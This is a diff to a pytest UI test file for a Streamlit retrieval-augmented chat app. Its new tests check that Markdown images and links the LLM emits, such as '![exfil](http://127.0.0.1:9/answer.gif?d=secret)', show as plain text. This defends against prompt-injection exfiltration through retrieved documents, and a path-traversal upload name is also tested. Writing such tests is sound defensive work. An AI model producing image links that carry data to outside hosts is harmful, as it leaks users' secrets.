@@ -15,12 +15,15 @@ from typing import Any
 import pytest
 from streamlit.testing.v1 import AppTest
 
+from ingest.pipeline import IngestPipeline
 from rag.config import Settings
 from rag.encoder import Encoder
 from rag.retrieval import HybridRetriever
 from rag.similarity import compare_texts, level_for, level_label
 from rag.store import MilvusStore
+from tests.support.milvus_server import MilvusServer, assert_names_the_server
 from tests.support.ollama_server import OllamaTestServer, split_pieces
+from tests.support.rendered import visible_text
 from tests.ui.conftest import APP, KB
 from ui.exports import to_csv
 from ui.markup import LEVEL_COLOURS
@@ -85,7 +88,7 @@ def test_chat_streams_the_answer_and_shows_cards_with_the_retrievers_scores(
     [body] = ollama_server.chat_requests()
     assert body["stream"] is True and len(split_pieces(REPLY)) > 5  # the answer arrived as a stream of pieces
     user, assistant = at.chat_message
-    assert user.markdown[0].value == QUESTION and assistant.markdown[0].value == REPLY
+    assert visible_text(user.markdown[0].value) == QUESTION and visible_text(assistant.markdown[0].value) == REPLY
     shown = cards(at)
     assert_cards_match(shown, search(settings, ui_encoder, QUESTION), settings)
     assert "cited" in shown[0]["html"] and "cited" in shown[1]["html"] and "cited" not in shown[2]["html"]
@@ -101,7 +104,7 @@ def test_chat_streams_the_answer_and_shows_cards_with_the_retrievers_scores(
     # A follow-up keeps the history: both turns stay on the page and the LLM sees the first exchange.
     ollama_server.behaviour.reply = "Three days [1]."
     at.chat_input[0].set_value("And after probation?").run()
-    assert len(at.chat_message) == 4 and at.chat_message[1].markdown[0].value == REPLY
+    assert len(at.chat_message) == 4 and visible_text(at.chat_message[1].markdown[0].value) == REPLY
     assert any(QUESTION in json.dumps(b) for b in ollama_server.chat_requests()[1:])
 
 
@@ -134,10 +137,10 @@ def test_llm_problems_show_a_banner_and_still_the_cards(
     settings = use_settings(demo_kb, llm=llm)
     at = start()
     hint = "ollama serve" if case == "offline" else "ollama pull nope:1b"
-    assert any(hint in w.value for w in at.warning)  # shown before asking, from /api/tags
+    assert any(hint in visible_text(w.value) for w in at.warning)  # shown before asking, from /api/tags
     at.chat_input[0].set_value(QUESTION).run()
     assert not at.exception and not at.error
-    banners = [w.value for w in at.chat_message[1].warning]
+    banners = [visible_text(w.value) for w in at.chat_message[1].warning]
     assert len(banners) == 1 and hint in banners[0] and "retrieved chunks are shown below" in banners[0]
     assert_cards_match(cards(at), search(settings, ui_encoder, QUESTION), settings)
     assert any(("🔴 **Ollama**" in m.value) for m in at.sidebar.markdown)
@@ -152,8 +155,8 @@ def test_a_broken_stream_keeps_the_partial_answer_and_the_cards(
     at.chat_input[0].set_value(QUESTION).run()
     assert not at.exception and not at.error
     assistant = at.chat_message[1]
-    assert assistant.markdown[0].value == "".join(split_pieces(REPLY)[:4])
-    [banner] = [w.value for w in assistant.warning]
+    assert visible_text(assistant.markdown[0].value) == "".join(split_pieces(REPLY)[:4])
+    [banner] = [visible_text(w.value) for w in assistant.warning]
     assert banner.startswith("The answer broke off") and "partial answer is kept" in banner
     assert len(cards(at)) == 3
 
@@ -276,8 +279,8 @@ def test_upload_ingest_and_delete(demo_kb: Settings, use_settings: Callable[...,
     assert not at.exception
     outcomes = at.table[0].value
     assert dict(zip(outcomes["outcome"], outcomes["documents"], strict=True))["added"] == "2"
-    [failed] = [e.value for e in at.error]
-    assert "`broken.pdf`" in failed and "`big.txt`: file is 0.0 MB, over the 0.01 MB upload limit" in failed
+    [failed] = [visible_text(e.value) for e in at.error]
+    assert "broken.pdf: corrupt PDF" in failed and "big.txt: file is 0.0 MB, over the 0.01 MB upload limit" in failed
     uploads = Path(settings.app.data_dir) / "uploads" / "uploads_kb"
     assert sorted(p.name for p in uploads.iterdir()) == ["broken.pdf", "escape.txt", "notes.md"]
     assert not (Path(settings.app.data_dir) / "escape.txt").exists()  # "../../" did not leave the folder
@@ -300,7 +303,7 @@ def test_upload_ingest_and_delete(demo_kb: Settings, use_settings: Callable[...,
     at.selectbox(key="kbm_doc").set_value("escape.txt")
     at.checkbox(key="kbm_doc_sure").check().run()
     at.button(key="kbm_doc_delete").click().run()
-    assert any("Deleted escape.txt" in s.value for s in at.success)
+    assert any("Deleted escape.txt" in visible_text(s.value) for s in at.success)
     with MilvusStore(settings.milvus) as store:
         assert {d.source for d in store.open("uploads_kb").documents().values()} == {"notes.md"}
 
@@ -310,6 +313,91 @@ def test_upload_ingest_and_delete(demo_kb: Settings, use_settings: Callable[...,
     with MilvusStore(settings.milvus) as store:
         assert "uploads_kb" not in store.knowledge_bases() and KB in store.knowledge_bases()
     assert at.sidebar.selectbox(key="opt_kb").value == KB
+
+
+OUTSIDE = "http://127.0.0.1:9"
+
+
+def hostile_reply(body: dict[str, Any]) -> str:
+    """What a hostile document could make the model write: Markdown images and links to another host."""
+    if "standalone question" in json.dumps(body["messages"]):  # the follow-up rewrite
+        return f"remote work ![q]({OUTSIDE}/rewritten.gif?d=secret)"
+    return f"Three days [1]. ![exfil]({OUTSIDE}/answer.gif?d=secret) [details]({OUTSIDE}/link) {OUTSIDE}/bare"
+
+
+def test_item1_chat_shows_images_and_links_from_the_llm_as_text(
+    demo_kb: Settings, use_settings: Callable[..., Settings], ollama_server: OllamaTestServer
+) -> None:
+    use_settings(demo_kb, llm={"base_url": ollama_server.url})
+    ollama_server.behaviour.reply = hostile_reply
+    at = start()
+    at.chat_input[0].set_value(QUESTION).run()
+    at.chat_input[0].set_value(f"And ![u]({OUTSIDE}/question.gif)?").run()
+    assert not at.exception and len(at.chat_message) == 4
+    for message in at.chat_message:
+        for element in message.markdown:
+            assert "<img" not in element.value and "<a " not in element.value and "](" + OUTSIDE not in element.value
+    answer = visible_text(at.chat_message[1].markdown[0].value)
+    assert answer == f"Three days [1]. [image: exfil] details ({OUTSIDE}/link) {OUTSIDE}/bare"
+    assert visible_text(at.chat_message[2].markdown[0].value) == f"And ![u]({OUTSIDE}/question.gif)?"
+    [caption] = [c.value for c in at.chat_message[3].caption if "Searched for" in c.value]
+    assert visible_text(caption) == f"Searched for: remote work ![q]({OUTSIDE}/rewritten.gif?d=secret)"
+
+
+def test_item1_failed_files_box_shows_a_markdown_image_in_a_record_id_as_text(
+    demo_kb: Settings, use_settings: Callable[..., Settings]
+) -> None:
+    use_settings(demo_kb)
+    image_id = f"![f]({OUTSIDE}/failed.gif?d=secret)"
+    rows = "".join(json.dumps({"id": image_id, "text": f"row {n}"}) + "\n" for n in (1, 2))
+    at = start("pages_/knowledge_bases.py")
+    at.text_input(key="kbm_target").set_value("hostile_kb")
+    at.file_uploader(key="kbm_files").set_value([(f"![n]({OUTSIDE}).jsonl", rows.encode(), "application/json")])
+    at.run()
+    at.button(key="kbm_ingest").click().run()
+    assert not at.exception
+    [failed] = [e.value for e in at.error]
+    assert "](" + OUTSIDE not in failed
+    assert f"duplicate id '{image_id}' in rows 1 and 2" in visible_text(failed)
+
+
+def test_item10_chat_keeps_its_history_while_milvus_is_down_and_works_again_after_a_restart(
+    ui_settings: Callable[..., Settings], ui_encoder: Encoder, use_settings: Callable[..., Settings],
+    ollama_server: OllamaTestServer, tmp_path: Path,
+) -> None:
+    server = MilvusServer(tmp_path / "server.db").start()
+    try:
+        docs = tmp_path / "docs"
+        docs.mkdir()
+        (docs / "remote.md").write_text("# Remote work\n\nEmployees may work remotely three days per week.\n")
+        (docs / "leave.txt").write_text("Annual leave is fifteen days a year; managers approve exceptions.\n")
+        settings = ui_settings(tmp_path, milvus={"uri": server.uri})
+        with MilvusStore(settings.milvus) as store:
+            assert IngestPipeline(settings, ui_encoder, store).run([docs], kb=KB).added == 2
+        use_settings(settings, llm={"base_url": ollama_server.url})
+        ollama_server.behaviour.reply = lambda body: QUESTION if "standalone" in json.dumps(body) else REPLY
+        at = start()
+        at.chat_input[0].set_value(QUESTION).run()
+        first = [c["chunk-id"] for c in cards(at)]
+        assert len(first) == 2 and not at.error
+
+        server.stop()
+        at.chat_input[0].set_value("And after probation?").run()
+        assert not at.exception and len(at.chat_message) == 4
+        assert visible_text(at.chat_message[1].markdown[0].value) == REPLY  # the history and its cards stay
+        assert [c["chunk-id"] for c in cards(at)] == first
+        [down] = [visible_text(e.value) for e in at.chat_message[3].error]
+        assert_names_the_server(down, server)
+        assert any(server.uri in visible_text(e.value) for e in at.sidebar.error)
+
+        server.start()  # same data dir, same port: the next question works
+        at.chat_input[0].set_value(QUESTION).run()
+        assert not at.exception and not at.sidebar.error and len(at.chat_message) == 6
+        assert [visible_text(e.value) for e in at.error] == [down]  # only the turn that failed, in the history
+        assert visible_text(at.chat_message[5].markdown[0].value) == REPLY
+        assert [c["chunk-id"] for c in cards(at)] == first + first
+    finally:
+        server.stop()
 
 
 @pytest.mark.parametrize(("name", "safe"), [
